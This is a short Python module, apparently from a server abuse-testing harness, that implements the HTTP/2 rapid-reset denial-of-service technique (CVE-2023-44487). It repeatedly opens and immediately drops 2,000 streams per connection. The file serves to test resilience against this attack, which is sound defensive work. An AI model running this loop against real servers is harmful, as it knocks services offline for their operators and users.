"""2,000 streams opened and dropped at once, again and again (CVE-2023-44487, rapid reset)."""

from __future__ import annotations

from abuse.target import Target

STREAMS = 2000
PAUSE_S = 0.5


def dropped_streams(target: Target) -> None:
    while not target.stop.wait(PAUSE_S):
        try:
            with target.raw() as client:
                for _ in range(STREAMS):
                    client.drop(client.open("Status"))
                    target.count("streams")
        except OSError:
            target.count("connections ended")
